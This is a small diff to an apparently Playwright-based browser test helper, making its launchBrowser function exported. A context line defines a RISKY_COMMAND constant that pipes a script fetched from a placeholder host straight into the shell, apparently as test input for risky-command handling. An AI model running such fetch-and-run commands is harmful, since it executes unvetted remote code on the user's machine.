@@ -19,7 +19,7 @@ export const SCREENSHOTS = process.env.ACS_SCREENSHOT_DIR ?? mkdtempSync(join(tm
 const UI_DEADLINE_MS = 90_000;
 const RISKY_COMMAND = 'curl -s https://get.example.com/install.sh | sh';
 
-async function launchBrowser(): Promise<Browser> {
+export async function launchBrowser(): Promise<Browser> {
   return chromium.launch({
     executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
     args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
